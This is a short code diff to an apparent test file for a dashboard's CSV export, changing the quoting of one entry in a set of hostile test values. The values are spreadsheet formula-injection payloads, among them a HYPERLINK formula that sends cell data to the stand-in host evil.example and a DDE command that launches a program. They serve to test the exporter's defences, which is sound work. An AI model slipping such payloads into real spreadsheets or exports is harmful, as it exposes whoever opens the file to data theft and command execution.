@@ -10,7 +10,7 @@ from dashboard.core.csv_export import FORMULA_STARTS, csv_text, neutral_cell
 from tests.support.running_central import RunningCentral
 
 HOSTILE = {
-    "event_id": "=HYPERLINK(\"http://evil.example/?\"&A1)",
+    "event_id": '=HYPERLINK("http://evil.example/?"&A1)',
     "station_id": "+cmd|' /C calc'!A0",
     "gateway_id": "-2+3",
     "door_id": "@SUM(1+1)",
